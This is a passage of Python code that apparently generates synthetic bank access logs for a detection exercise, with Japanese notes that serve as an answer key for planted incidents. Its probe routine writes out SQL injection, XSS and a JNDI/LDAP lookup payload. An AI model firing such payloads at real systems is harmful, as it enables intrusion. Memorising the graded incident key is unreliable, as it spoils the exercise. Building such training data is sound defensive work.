        def fn(d: date) -> None:
            t = self.at(d, r.uniform(10, 21))
            sid = self.session(t, c, c.ip, c.ua, only="read")
            t += timedelta(seconds=r.uniform(100, 300))
            for meth, path in (
                [("GET", "/ib/api/accounts")]
                + [("GET", f"/ib/api/accounts/{a}/statement") for a in c.accts] * 2
                + [("POST", "/ib/transfer/confirm"), ("GET", "/ib/api/accounts")]
            ):
                self.ib(t, c.uid, ip, UAS[6], meth, path, 200, 0, sid)
                t += timedelta(seconds=r.uniform(4, 40))

        self.play(note, d, fn)

    def i_payee(self, grade: str = "medium") -> None:
        r, c = self.r, self.takec()
        ds = self.span(10, 17)
        lo, hi = (26, 42) if grade == "medium" else (8, 15)
        b, no = r.choice(BRANCHES)[0], [3000000 + r.randrange(300000)]
        note = self.inc(
            grade,
            "outsider",
            [c.uid, c.ip],
            f"一人の顧客が振込先の名義確認を口座番号順に毎日 {lo} 回あまり続け、名前を集めた",
            "ふつうは月に数回、番号が一つずつ上がり日をまたいで続く、404 が多い、送金がない",
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(20, 22.5))
            sid = self.session(t, c, c.ip, c.ua, only="read")
            for _ in range(r.randrange(lo, hi)):
                t += timedelta(seconds=r.uniform(9, 60))
                no[0] += 1
                self.ib(
                    t,
                    c.uid,
                    c.ip,
                    c.ua,
                    "GET",
                    f"/ib/api/payee/{b}-{no[0]}/name",
                    200 if r.random() < 0.6 else 404,
                    140,
                    sid,
                    "https://ib.setonami-bank.example/ib/home",
                )

        for d in ds:
            if r.random() < 0.88:
                self.play(note, d, fn)

    def i_probe(self) -> None:
        r, ip, d = self.r, self.foreign(), self.when(False)
        note = self.inc(
            "medium",
            "web",
            [ip],
            "インターネットバンキングのサインインに SQL と JNDI の文字列が四つ試され、どれも拒まれた",
            "ふだん誰も付けない next= に攻撃の文字列、すべて 403 か 400",
            woken=False,
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(0, 23))
            for q in [
                "%27%20OR%201=1--",
                "1%27%20AND%20SLEEP(5)--",
                "${jndi:ldap://45.134.9.9/a}",
                "%3Cscript%3Ealert(1)%3C/script%3E",
            ]:
                self.ib(
                    t,
                    "",
                    ip,
                    "Mozilla/5.0",
                    "GET",
                    f"/ib/login?next={q}",
                    r.choice([400, 403]),
                    150,
                )
                t += timedelta(seconds=r.uniform(2, 40))

        self.play(note, d, fn)

    def i_decoy(self) -> None:
        r, p = self.r, self.take(("it", "review", "marketing"))
        d = self.when()
        self.works([d], p)
        s = r.choice(self.decoys)
        note = self.inc(
            "medium",
            "other",
            [p.ad],
            f"{p.name}（{p.dept}）がおとりの顧客 {s} を開いた。前後に番号を手で変えた十数人も見ている",
            "おとりの一覧にある番号、検索を経ず、近い番号の 404 が並ぶ",
        )

        def fn(d: date) -> None:
            t, base = self.at(d, r.uniform(10, 17)), int(s[4:])
            for j in range(-7, 5):
                n = self.sorted_pool[s[:3]][-30 + j]
                self.crm(
                    t,
                    p.ad,
                    p.ip,
                    p.ua,
                    "GET",
                    f"/crm/customer/{s[:3]}-{base + j}",
                    200 if j == 0 else 404,
                )
                if r.random() < 0.5:
                    self.look(t + timedelta(seconds=6), p, p.ip, n, search=0, memo=0)
                t += timedelta(seconds=r.uniform(10, 50))

        self.play(note, d, fn)

    # ---- incidents: hard -----------------------------------------------------------------------------------------------------
    def i_other_branch(self, grade: str = "hard") -> None:
        r, p = self.r, self.branch_staff(("officer",))
        p.rate = max(0.9, min(p.rate, 1.3))
        ds = self.works(self.span(13, 18), p)
        bs = r.sample([c for c, _, _ in BRANCHES if c != p.branch], 4)
        lo, hi = (3, 6) if grade == "hard" else (9, 15)
        note = self.inc(
            grade,
            "weeks",
            [p.ad],
            f"{p.name}（{p.dept}）が何週にもわたり、ほかの四店の顧客を毎日 {lo} 人余り、取引まで見た",
            "一日の人数はふつうだが店番がよその客が続き、同じ客は二度と来ず、メモがない（同じ仕事の人はほとんど自店の客）",
        )

        def fn(d: date) -> None:
            for _ in range(r.randrange(lo, hi)):
                self.look(
                    self.at(d, r.uniform(9, 18)),
                    p,
                    p.ip,
                    r.choice(self.pool[r.choice(bs)]),
                    search=0.4,
                    acc=1,
                    tra=0.6,
                    memo=0,
                )

        for d in ds:
            self.play(note, d, fn)

    def i_export_creep(self) -> None:
        r, p = self.r, self.take(("marketing",))
        ds = self.works(self.span(14, 18), p)[::2]
        p.left = self.days[-1] + timedelta(r.randrange(4, 25))
        bs = r.sample([c for c, _, _ in BRANCHES], 12)
        note = self.inc(
            "hard",
            "export",
            [p.ad],
            f"近く辞める {p.name}（営業企画部）が、一日おきに一店ずつ店別の顧客一覧を書き出した",
            "権限はあるが、仕事の書き出しは番号つきの区分で週に一度、店別のものはこの人だけ、同じ店を二度書き出さない、退職日が近い",
        )

        def fn(d: date, c: str) -> None:
            self.crm(
                self.at(d, r.uniform(10, 17.5)),
                p.ad,
                p.ip,
                p.ua,
                "GET",
                f"/crm/export/branch-{c}-contacts.csv",
                size=int(r.lognormvariate(13.3, 0.4)),
            )

        for d, c in zip(ds, bs):
            self.play(note, d, lambda d, c=c: fn(d, c))

    def i_quiet_reader(self) -> None:
        r, ds = self.r, self.span(10, 16)
        ip = self.pub()
        net = ip.rsplit(".", 1)[0]
        ips = [ip, f"{net}.{r.randrange(2, 250)}"]
        ua = UAS[3]
        cs = [self.takec() for _ in range(40)]
        note = self.inc(
            "hard",
            "outsider",
            ips,
            "家庭の回線らしい一つの番地が毎晩二、三人ずつ、一度で顧客の契約に入り明細だけ読んだ",
            "契約者はみな別の番地とブラウザの人、失敗も送金もなく、一人一度きり。家計簿サービスのように同じ人を毎日ではない",
        )

        def fn(d: date, late: bool) -> None:
            for _ in range(r.choice([1, 2, 2, 3])):
                if cs:
                    c = cs.pop()
                    note.actors.append(c.uid)
                    self.session(self.at(d, r.uniform(19.5, 23.8)), c, ips[late], ua, only="read")

        for k, d in enumerate(ds):
            self.play(note, d, lambda d, late=k > len(ds) // 2: fn(d, late))

    def i_payee_slow(self) -> None:
        self.i_payee("hard")

    def i_other_branch_fast(self) -> None:
        self.i_other_branch("medium")

    def i_drip_errors(self) -> None:
        r, ds = self.r, self.works(self.span(6, 10))
        note = self.inc(
            "hard",
            "errors",
            ["loan"],
            "融資システムの入れ替えのあと、信用情報の照会だけが三、四回に一回失敗しつづけた",
            "全体の誤り率は目立たないが、/loan/credit/ の 500 が前はほとんどなく、ある日から毎日、店を問わず",
        )
        for d in ds:
            self.fail.append(
                ("loan", "/loan/credit/", self.at(d, 0), self.at(d, 24), 0.3, 500, note)
            )

    def i_night_agent(self) -> None:
        r, p = self.r, self.take(("night",), lambda q: len(q.days) == 3)
        ds = self.works(self.span(17, 19), p)
        note = self.inc(
            "hard",
            "hours",
            [p.num],
            f"夜勤の {p.name} が電話の途絶える二時から四時半に、着信のない顧客を数人ずつ見た",
            "夜勤そのものはいつもどおり。顧客の画面の前に着信の行がなく、メモもなく、本人の夜勤のたびに続く",
        )

        def fn(d: date) -> None:
            for _ in range(r.randrange(3, 7)):
                self.cti(
                    self.at(d, r.uniform(26, 28.6)),
                    p.num,
                    p.ip,
                    "GET",
                    f"/cti/customer/{r.choice(self.pool[r.choice(BRANCHES)[0]])}",
                )

        for d in ds:
            self.play(note, d, fn)

    def i_part_timer(self) -> None:
        r = self.r
        p = self.take(
            ("part",),
            lambda q: (
                q.branch not in self.subnet_from
                and any(
                    x.branch == q.branch
                    and x.role == "teller"
                    and x.num not in self.used
                    and not x.left
                    for x in self.people
                )
            ),
        )
        b = self.take(("teller",), lambda q: q.branch == p.branch)
        ds = [d for d in self.span(13, 18) if self.workday(d) and d.weekday() not in p.days]
        self.works(ds, b)
        note = self.inc(
            "hard",
            "session",
            [p.ad, b.ad, b.ip],
            f"パートの {p.name} の番号が、勤務のない曜日に同じ店の別の窓口の端末で使われた",
            "本人は決まった三つの曜日だけ、自分の端末だけ。ほかの曜日の分は同僚の番地で、その同僚も同じ時に働いている",
        )

        def fn(d: date) -> None:
            ip = b.ip
            t = self.at(d, r.uniform(9.5, 14.5))
            self.open_crm(t, p, ip, b.ua)
            for _ in range(r.randrange(3, 7)):
                t = self.look(
                    t + timedelta(seconds=r.uniform(60, 900)),
                    p,
                    ip,
                    self.cif(p.branch),
                    memo=0,
                    ua=b.ua,
                )

        for d in ds:
            self.play(note, d, fn)

    def i_half_node(self) -> None:
        r, d = self.r, self.when()
        ds = [d] + [x for x in self.days if x > d and self.workday(x)][: r.randrange(0, 2)]
        note = self.inc(
            "hard",
            "silence",
            ["crm"],
            "顧客情報システムの二台目の記録が日中届かず、行員の半分が消えた",
            "crm の一台目は変わらず、web02 のファイルだけに昼間の行がない。いつも二台目に出る人が一人も現れないが、融資や受付では働いている",
        )
        note.days |= set(ds)
        note.sites.add("crm")
        self.mute.append(("crm", "web02", self.at(ds[0], 9.05), self.at(ds[-1], 18.5)))

    def i_slow_stuffing(self) -> None:
        r, ds = self.r, self.span(8, 13)
        ua, note = (
            "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36",
            None,
        )
        note = self.inc(
            "hard",
            "login",
            ["ib"],
            "毎晩十ほどの番地から二、三契約ずつパスワードが試され、何日もかけて数契約に入られた",
            "失敗の数はふだんに紛れるが、古い同じブラウザの名、一契約一回、番地は毎回新しく、成功のあとは明細だけ",
        )

        def fn(d: date) -> None:
            for _ in range(r.randrange(3, 8)):
                ip, t = self.pub(), self.at(d, r.uniform(8, 23.7))
                for c in r.sample(self.cust, r.randrange(2, 4)):
                    if r.random() < 0.06 or (
                        r.random() < 0.5 and d == ds[-1] and len(note.actors) < 2
                    ):
                        self.session(t, c, ip, ua, only="read")
                        note.actors += [c.uid, ip]
                    else:
                        self.ib(t, c.uid, ip, ua, "POST", "/ib/login", 401, 900)
                    t += timedelta(seconds=r.uniform(30, 400))

        for d in ds:
            self.play(note, d, fn)

    def i_colleagues(self) -> None:
        r, p = self.r, self.take(("compliance", "review", "it"))
        ds = self.works(self.span(15, 18), p)
        who = [n for n in self.staffcif if n not in (p.num,)]
        note = self.inc(
            "hard",
            "weeks",
            [p.ad],
            f"{p.name}（{p.dept}）が同僚の口座を数日おきに一、二件ずつ見た",
            "行員の口座の一覧にある番号ばかり、取引まで、メモなし。一日に見る数はふつうだが、行員の口座はほかの人では百に一つ",
        )

        def fn(d: date) -> None:
            for _ in range(r.choice([1, 1, 2])):
                self.look(
                    self.at(d, r.uniform(9, 18)),
                    p,
                    p.ip,
                    self.staffcif[r.choice(who)],
                    search=0.5,
                    acc=1,
                    tra=1,
                    memo=0,
                )

        for d in ds:
            if r.random() < 0.6:
                self.play(note, d, fn)

    def i_credit(self) -> None:
        r, p = self.r, self.branch_staff(("officer",))
        ds = self.works(self.span(10, 16), p)
        note = self.inc(
            "hard",
            "other_site",
            [p.num],
            f"{p.name}（{p.dept}）が、よその店の申込者の信用情報を案件を開かずに毎日二、三件照会した",
            "信用情報の行は必ず案件の画面から来るのに参照元がなく、案件の行もなく、案件番号の店番が自店でない",
        )

        def fn(d: date) -> None:
            t, sid = self.at(d, r.uniform(11, 17)), f"{r.getrandbits(80):020x}"
            self.loan(t, p.num, p.ip, p.ua, "POST", "/loan/login", 302, sid=sid)
            for _ in range(r.randrange(2, 5)):
                t += timedelta(seconds=r.uniform(20, 200))
                self.loan(
                    t,
                    p.num,
                    p.ip,
                    p.ua,
                    "GET",
                    f"/loan/credit/{r.choice(self.cases[self.other(p.branch)])}",
                    sid=sid,
                )

        for d in ds:
            self.play(note, d, fn)

    def choose(self) -> None:
        """Which incidents there are: a third of each grade; in a world of weeks more than half are slow."""
        r, weeks = self.r, self.n > 50
        easy = [
            self.i_bulk,
            self.i_spray,
            self.i_leaver_export,
            self.i_sqli,
            self.i_ib_errors,
            self.i_crm_silent,
            self.i_after_leaving,
            self.i_webshell,
        ]
        med = [
            self.i_lent,
            self.i_vip,
            self.i_ato,
            self.i_idor,
            self.i_guess,
            self.i_sunday,
            self.i_counter_silent,
            self.i_reserve,
            self.i_svc,
            self.i_traversal,
            self.i_hijack,
            self.i_probe,
            self.i_decoy,
        ]
        med_slow = [self.i_no_call, self.i_ex, self.i_payee, self.i_other_branch_fast]
        hard = [self.i_half_node]
        hard_slow = [
            self.i_other_branch,
            self.i_export_creep,
            self.i_quiet_reader,
            self.i_payee_slow,
            self.i_drip_errors,
            self.i_night_agent,
            self.i_part_timer,
            self.i_slow_stuffing,
            self.i_colleagues,
            self.i_credit,
        ]
        if weeks:
            got = (
                [self.i_evening_run]
                + r.sample(easy, 3)
                + r.sample(med_slow, 2)
                + r.sample(med, 2)
                + r.sample(hard_slow, 4)
            )
        else:
            got = (
                r.sample(easy + [self.i_evening_run], 5) + r.sample(med_slow, 2) + r.sample(med, 4)
            )
            got += r.sample(hard_slow, 4) + (
                hard if r.random() < 0.6 else [r.choice([self.i_credit])]
            )
            got = list(dict.fromkeys(got))
        if self.i_crm_silent in got and self.i_half_node in got:
            got.remove(self.i_half_node)
        for fn in got:
            fn()

    # ---- annoyances ----------------------------------------------------------------------------------------------------------
    def early(self) -> None:
        """Annoyances that change who sits where: drawn before the incidents."""
        r = self.r
        storm = self.days[r.choice([k for k in range(9, self.n - 1) if self.workday(self.days[k])])]
        cl = {c for c in r.sample([b[0] for b in BRANCHES[5:]], 2)}
        self.closed[storm] = cl
        self.boost[("cti", storm)], self.boost[("ib", storm)] = 1.9, 1.3
        n = self.ann(
            f"大雨で{'と'.join(NAME_OF[c] for c in sorted(cl))}が休業し、電話が倍になった",
            "天気。店の記録は翌日に戻り、ほかはふだんどおり",
            [f"counter-{c}" for c in sorted(cl)] + ["cti"],
        )
        n.days, n.sites = {storm}, {f"counter-{c}" for c in cl} | {"cti", "crm"}
        mv = r.choice([b[0] for b in BRANCHES[:5]])
        self.subnet_from[mv] = d = self.days[r.randrange(12, self.n - 3)]
        n = self.ann(
            f"{NAME_OF[mv]}が仮店舗に移り、全員の番地が同じ日に変わった",
            "店の全員、同じ日、社内の番地",
            [p.ad for p in self.people if p.branch == mv],
        )
        n.days, n.sites = {d, self.days[-1]}, {"crm", "loan", f"counter-{mv}"}
        h = self.take(("teller",), lambda p: p.branch != mv and len(p.days) == 5)
        to = r.choice([c for c, _, _ in BRANCHES if c not in (mv, h.branch)])
        h.helps = {d: to for d in self.days if d.weekday() == 1}
        n = self.ann(
            f"{h.name}は毎週火曜に{NAME_OF[to]}を手伝う",
            "初日からずっと毎週火曜、その店の客を見る",
            [h.ad],
        )
        n.days, n.sites = {d for d in h.helps if self.present(h, d)}, {"crm", f"counter-{to}"}
        new = self.take(("teller",), lambda p: p.branch != mv and len(p.days) == 5)
        new.joined, new.rate = (
            next(d for d in self.days[r.randrange(11, 18) :] if self.workday(d)),
            2.3,
        )
        n = self.ann(
            f"新しく入った {new.name} が覚えるために自店の客をたくさん開く",
            "入社日が名簿にあり、自店の客ばかりで、人に聞きながら読む",
            [new.ad],
        )
        n.days, n.sites = {new.joined, self.days[-1]}, {"crm"}
        tr = self.take(("officer",), lambda p: p.branch != mv)
        to2 = r.choice([c for c, _, _ in BRANCHES if c not in (mv, tr.branch)])
        d = next(x for x in self.days[r.randrange(13, self.n - 4) :] if self.workday(x))
        old = tr.branch

        def move() -> None:
            tr.branch, tr.dept, tr.ip = (
                to2,
                f"{NAME_OF[to2]}融資渉外課",
                f"10.20.{[c for c, _, _ in BRANCHES].index(to2) + 1}.49",
            )
            tr.port = r.sample(self.pool[to2], 60)

        self.pre[d].append(move)
        n = self.ann(
            f"{tr.name}が{NAME_OF[old]}から{NAME_OF[to2]}へ異動した",
            "名簿の所属も新しい店、番地も客もその日から新しい店のもの",
            [tr.ad, tr.num],
        )
        n.days, n.sites = {d, self.days[-1]}, {"crm", "loan"}
        back = self.take(("deputy",), lambda p: p.branch != mv)
        d = next(
            (x for x in self.days[r.randrange(31, self.n - 1) :] if self.workday(x)), self.days[-1]
        )
        back.off = {x for x in self.days if x < d}
        n = self.ann(
            f"{back.name}が育児休業から戻り、一か月ぶりにサインインした",
            "名簿に在籍、自分の席、自店の客、ふつうの量",
            [back.ad],
        )
        n.days, n.sites = {d}, {"crm"}
        pc = r.choice([b[0] for b in BRANCHES if b[0] != mv])
        d = self.days[r.randrange(14, self.n - 2)]
        self.pre[d].append(lambda: self.aged.update({pc: EDGE.format(140)}))
        n = self.ann(
            f"{NAME_OF[pc]}の端末が入れ替わり、全員のブラウザが新しくなった",
            "店の全員が同じ日から同じ版",
            [p.ad for p in self.people if p.branch == pc],
        )
        n.days, n.sites = {d, self.days[-1]}, {"crm", "loan"}
        k0 = r.randrange(9, self.n - 8)
        for p in self.people:
            self.pre[self.days[k0 + int(p.num[2:]) % 6]].append(
                lambda p=p: setattr(p, "ua", EDGE.format(139))
            )
        n = self.ann(
            "行員の端末のブラウザが一週間のうちに順に新しい版になった",
            "全員が同じ版へ、番地は変わらない",
            ["crm", "loan"],
        )
        n.days, n.sites = {self.days[k0], self.days[k0 + 5]}, {"crm", "loan"}
        d = self.days[r.randrange(8, self.n - 3)]
        for k in range(3):
            x = d + timedelta(k)
            self.boost[("www", x)], self.boost[("ib", x)] = 2.1 - 0.3 * k, 1.15
        n = self.ann(
            "定期預金の金利キャンペーンで公開サイトの閲覧が二、三倍になった",
            "人の閲覧、いつものページ、検索サイトから",
            ["www", "ib"],
        )
        n.days, n.sites = {d, d + timedelta(2)}, {"www", "ib"}
        n = self.ann(
            "第二日曜の零時から六時はインターネットバンキングの定例停止（503）",
            "毎月の予定で、ホームページで知らせてある",
            ["ib"],
        )
        for d in self.days:
            if d.weekday() == 6 and 8 <= d.day <= 14:
                self.fail.append(("ib", "/", self.at(d, 0), self.at(d, 6), 1.0, 503, n))
        n = self.ann(
            "水曜の昼の融資システムの入れ替えで数分 502 が出る",
            "毎週同じ時刻、三分で終わる",
            ["loan"],
        )
        for d in self.days:
            if d.weekday() == 2 and self.workday(d):
                self.fail.append(("loan", "/", self.at(d, 12.5), self.at(d, 12.56), 0.95, 502, n))

    def busy(
        self,
        n: Note,
        p: Person,
        d: date,
        lo: int,
        hi: int,
        h0: float,
        h1: float,
        pick: Callable[[], str],
        **kw: float,
    ) -> None:
        """On that day the person opens so many customers between two hours."""

        def fn(d: date) -> None:
            ip = self.ip_of(p, d)
            self.open_crm(self.at(d, h0), p, ip)
            for h in sorted(self.r.uniform(h0, h1) for _ in range(self.r.randrange(lo, hi))):
                self.look(self.at(d, h + 0.01), p, ip, pick(), **kw)

        p.off.discard(d)
        self.play(n, d, fn)

    def later(self) -> None:
        """Annoyances that add lines to some days."""
        r = self.r
        work = [d for d in self.days if self.workday(d) and d not in self.closed]
        k = r.randrange(12, len(work) - 6)
        week = [d for d in work[k:] if work[k] <= d <= work[k] + timedelta(4)]
        aud = [p for p in self.people if p.role == "audit"][:3]
        c = r.choice(BRANCHES)[0]
        n = self.ann(
            f"監査部の三人が{NAME_OF[c]}の定例監査で一日六、七十人の顧客を見た",
            "期間つきの権限が権限表にある",
            [p.ad for p in aud],
        )
        for p in aud:
            self.priv += [
                [p.ad, "", x, week[0].isoformat(), week[-1].isoformat()]
                for x in ("crm-customer", "crm-accounts", "crm-transactions")
            ]
            for d in week:
                self.busy(
                    n,
                    p,
                    d,
                    40,
                    75,
                    9,
                    17.3,
                    lambda c=c: r.choice(self.pool[c]),
                    search=0,
                    acc=0.2,
                    tra=0.2,
                    memo=0,
                )
        k = r.randrange(10, len(work) - 6)
        week2 = [d for d in work[k:] if work[k] <= d <= work[k] + timedelta(4)]
        n = self.ann(
            "監査法人の二人が一週間だけ来て、抽出した顧客を見た",
            "名簿に入社日と終了日、権限表に期間がある",
            [],
        )
        for j in range(2):
            p = Person(
                f"x9{r.randrange(100, 999)}",
                r.choice(SUR) + " " + r.choice(GIV),
                "監査法人",
                "HQ",
                "ext",
                f"10.10.2.{61 + j}",
                EDGE.format(139),
                1.0,
                joined=week2[0],
                left=week2[-1],
                company="みなと監査法人",
                kind="contractor",
            )
            self.people.append(p)
            n.actors.append(p.ad)
            self.priv += [
                [p.ad, "", x, week2[0].isoformat(), week2[-1].isoformat()]
                for x in ("crm-customer", "crm-accounts", "crm-transactions", "crm-search")
            ]
            for d in week2:
                self.busy(n, p, d, 25, 45, 9.3, 16.5, lambda: self.cif(), search=0.8, memo=0)
        n = self.ann(
            "月末日は事務集中部が二十一時過ぎまで働き、量も多い",
            "毎月末、部の全員",
            [p.ad for p in self.people if p.role == "centre"],
        )
        ends = [d for i, d in enumerate(work[:-1]) if work[i + 1].month != d.month] + [
            d for d in work[-1:] if (d + timedelta(1)).day == 1
        ]
        for d in ends:
            for p in self.people:
                if p.role == "centre" and d not in p.off:
                    self.busy(
                        n,
                        p,
                        d,
                        4,
                        12,
                        18.8,
                        21.4,
                        lambda: self.cif(),
                        search=0.2,
                        tra=0.1,
                        memo=0.6,
                    )
        bt = self.svc["batch"]
        n = self.ann(
            "月末の夜に一括処理が残高証明のために顧客を続けて読む",
            "機械の番号、いつもの番地、毎月末の未明",
            [bt.ad],
        )
        for d in ends:
            self.play(
                n,
                d,
                lambda d: (
                    [
                        self.crm(
                            self.at(d, 1 + j * 0.004),
                            bt.ad,
                            bt.ip,
                            bt.ua,
                            "GET",
                            f"/crm/customer/{self.cif()}/accounts",
                        )
                        for j in range(320)
                    ]
                    and None
                ),
            )
        for _ in range(2):
            p = self.branch_staff(("teller", "deputy"))
            s, k = r.choice(self.pool[p.branch]), r.randrange(10, len(work) - 8)
            n = self.ann(
                f"{p.name}が相続の手続きで自店の客 {s} を八日ほど続けて開いた",
                "自店の客で、検索から入り、毎回メモを残す",
                [p.ad],
            )
            for d in work[k : k + r.randrange(6, 9)]:
                self.busy(n, p, d, 1, 4, 9.5, 15, lambda s=s: s, search=1, acc=1, tra=0.8, memo=1)
        p = self.take(("compliance",))
        n = self.ann(
            "捜査機関の照会に答えるため、コンプライアンスの担当が一日に三十人ほどを調べた",
            "この課の仕事、店はまちまち、一人ずつメモ",
            [p.ad],
        )
        self.busy(
            n,
            p,
            r.choice(work[14:]),
            25,
            36,
            9.5,
            18,
            lambda: self.cif(),
            search=1,
            acc=1,
            tra=1,
            memo=1,
        )
        p = self.take(("marketing",))
        n = self.ann(
            "案内状の発送のため営業企画部が全店の名簿を一日で書き出した",
            "権限があり、十二店を一度に、隔月の仕事",
            [p.ad],
        )
        d = r.choice(work[10:])
        p.off.discard(d)
        self.play(
            n,
            d,
            lambda d, p=p: (
                [
                    self.crm(
                        self.at(d, 10 + j * 0.05),
                        p.ad,
                        p.ip,
                        p.ua,
                        "GET",
                        f"/crm/export/dm-{c}.csv",
                        size=int(r.lognormvariate(13, 0.4)),
                    )
                    for j, (c, _, _) in enumerate(BRANCHES)
                ]
                and None
            ),
        )
        sat = [d for d in self.days[8:] if d.weekday() == 5]
        c = r.choice([b[0] for b in BRANCHES[:5]])
        ps = [
            p
            for p in self.people
            if p.branch == c
            and p.role in ("officer", "manager")
            and not p.left
            and p.num not in self.used
        ][:4]
        n = self.ann(
            f"{NAME_OF[c]}が土曜に住宅ローン相談会を開き、数人が働いた",
            "同じ店の人がそろって、自席で、九時から十六時",
            [p.ad for p in ps] + [p.num for p in ps],
        )
        d = r.choice(sat)
        for p in ps:
            self.busy(n, p, d, 4, 9, 9.2, 16, lambda c=c: self.cif(c))
            self.play(n, d, lambda d, p=p: self.loan_day(p, d, self.ip_of(p, d), 5, p.branch))
        first = next((d for d in work[8:] if d.day <= 4), work[9])
        n = self.ann(
            "融資システムのパスワードの期限が切れた朝、三十人ほどが打ちまちがえた",
            "一人二、三回、自席から、そのあと成功",
            ["loan"],
        )

        def expired(d: date) -> None:
            for p in [
                p for p in self.people if p.role in ("officer", "review") and self.present(p, d)
            ][:32]:
                for j in range(r.randrange(1, 5)):
                    self.loan(
                        self.at(d, r.uniform(8.4, 9)),
                        p.num,
                        self.ip_of(p, d),
                        p.ua,
                        "POST",
                        "/loan/login",
                        401,
                    )

        self.play(n, first, expired)
        k = r.randrange(12, len(work) - 5)
        n = self.ann(
            "顧客情報システムの改修で古いお気に入りが一週間 404 になった",
            "大勢の行員の同じ古い番地",
            ["crm"],
        )
        for d in work[k : k + 5]:
            self.play(
                n,
                d,
                lambda d: (
                    [
                        self.crm(
                            self.at(d, r.uniform(8.4, 11)),
                            p.ad,
                            self.ip_of(p, d),
                            p.ua,
                            "GET",
                            "/crm2/start.do",
                            404,
                        )
                        for p in self.people
                        if p.role in ("teller", "officer")
                        and self.present(p, d)
                        and r.random() < 0.2
                    ]
                    and None
                ),
            )
        p = self.take(("agent",), lambda q: len(q.days) >= 4)
        d = next(
            (
                x
                for x in self.days[9:]
                if x.weekday() not in p.days and not self.workday(x + timedelta(1))
            ),
            self.days[-2],
        )
        n = self.ann(
            f"休みの前の夜、日勤の {p.name} が夜勤を代わった",
            "着信があり、そのあとに顧客の画面、件数はほかの夜勤と同じ",
            [p.num],
        )

        def night(d: date, p: Person = p) -> None:
            self.cti(self.at(d, 20.9), p.num, p.ip, "POST", "/cti/login", 302)
            for _ in range(10):
                self.call(self.at(d, r.uniform(21, 31)), p)

        self.play(n, d, night)
        d = r.choice(work[12:])
        n = self.ann(
            "ATM の障害のあと、コールセンターの責任者が五十人ほどに折り返した",
            "障害の日の夕方、着信の記録つき、カードの停止や取引を一人ずつ",
            [self.sv.num],
        )
        self.play(
            n,
            d,
            lambda d: (
                [self.call(self.at(d, r.uniform(15, 20.5)), self.sv) for _ in range(52)] and None
            ),
        )
        ag = [self.takec() for _ in range(55)]
        n = self.ann(
            "家計簿サービスが毎朝、一つの番地から五十人余りの代わりに残高を読む",
            "初日から毎朝、名乗っている、同じ人、本人が頼んだもの",
            ["54.178.91.20"],
        )
        for d in self.days:
            self.play(
                n,
                d,
                lambda d: (
                    [
                        self.session(
                            self.at(d, 5 + r.random()),
                            c,
                            "54.178.91.20",
                            "KakeiboLink/2.3 (+https://kakeibo-link.example/bank)",
                            only="read",
                        )
                        for c in ag
                        if r.random() < 0.95
                    ]
                    and None
                ),
            )
        tax, ip = [self.takec() for _ in range(9)], self.pub()
        n = self.ann(
            "税理士事務所が一つの番地から顧問先九社の契約に入る",
            "十日と二十五日の前後にいつも同じ番地、同じ九社",
            [ip],
        )
        for d in work:
            if d.day in (9, 10, 11, 24, 25, 26) or r.random() < 0.06:
                self.play(
                    n,
                    d,
                    lambda d, ip=ip: (
                        [self.session(self.at(d, r.uniform(9, 18)), c, ip, UAS[1]) for c in tax]
                        and None
                    ),
                )
        rp = self.takec()
        n = self.ann(
            "法人の顧客が自動操作で毎時、自社の明細を取る",
            "自分の口座、自分の番地、ずっと毎時",
            [rp.uid],
        )
        for d in work:
            self.play(
                n,
                d,
                lambda d: (
                    [
                        self.session(
                            self.at(d, h + 0.07),
                            rp,
                            rp.ip,
                            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) UiPath/23.10",
                            only="read",
                        )
                        for h in range(8, 20)
                    ]
                    and None
                ),
            )
        fc, d = self.takec(), self.when(False)
        n = self.ann(
            "年配の顧客がパスワードを忘れて十数回まちがえ、再設定して入れた",
            "本人の番地とブラウザ、再設定のあと成功",
            [fc.uid, fc.ip],
        )

        def forgot(d: date) -> None:
            t = self.at(d, r.uniform(9, 18))
            for _ in range(r.randrange(9, 15)):
                self.ib(t, fc.uid, fc.ip, fc.ua, "POST", "/ib/login", 401, 900)
                t += timedelta(seconds=r.uniform(20, 200))
            self.ib(t, "", fc.ip, fc.ua, "POST", "/ib/password/reset", 302)
            self.session(t + timedelta(minutes=9), fc, fc.ip, fc.ua)

        self.play(n, d, forgot)
        tc, ip = self.takec(), self.foreign()
        k = r.randrange(14, self.n - 5)
        n = self.ann(
            "出張中の顧客が数日、海外のホテルから夜中に残高を見た",
            "自分のアプリのまま、自分の口座だけ、連絡先も送金も触らない",
            [tc.uid],
        )
        for d in self.days[k : k + 5]:
            self.play(
                n,
                d,
                lambda d: (
                    self.session(self.at(d, r.uniform(0, 5)), tc, ip, tc.mob, only="read") and None
                ),
            )
        d = self.when(False, 9)
        n = self.ann(
            "Googlebot が一晩で公開サイトを読み直した",
            "本物の番地、公開のページだけ",
            [BOTS[0][0].format(9)],
        )
        self.play(
            n,
            d,
            lambda d: (
                [
                    self.www(
                        self.at(d, 1 + j * 0.006),
                        BOTS[0][0].format(9),
                        BOTS[0][1],
                        r.choice(PAGES) + f"?v={r.randrange(40)}",
                    )
                    for j in range(620)
                ]
                and None
            ),
        )
        n = self.ann(
            "毎週月曜の未明、委託した診断会社が公開サイトを決まった順に調べる",
            "名乗りと番地がいつも同じで、初日からあり、得たものがない",
            ["61.206.44.18"],
        )
        n.days, n.sites = {d for d in self.days if d.weekday() == 0}, {"www"}
        n = self.ann(
            "世界中からの無差別な探りが毎日あり、何も得ない",
            "どのサイトにも来る既知の番地ばかりで、すべて 4xx",
            ["www"],
        )
        n.days, n.sites = set(self.days), {"www"}

    # ---- the whole -----------------------------------------------------------------------------------------------------------
    def settings(self) -> None:
        """The settings and the lists beside them."""
        o = self.outdir
        rows = ["user,person,name,department,manager,type,company,country,joined_on,left_on"]
        for p in self.people:
            boss = next(
                (
                    q.num
                    for q in self.people
                    if q.role == "manager" and q.branch == p.branch and q is not p
                ),
                "",
            )
            for u in [p.num] if p.branch == "CC" else [p.ad] if p.role == "ext" else [p.ad, p.num]:
                rows.append(
                    f"{u},{p.num},{p.name},{p.dept},{boss},{p.kind},{p.company},JP,{p.joined.isoformat()},{p.left.isoformat() if p.left else ''}"
                )
        for p in self.svc.values():
            rows.append(f"{p.ad},,{p.name},システム部,,system,瀬戸波銀行,JP,2019-04-01,")
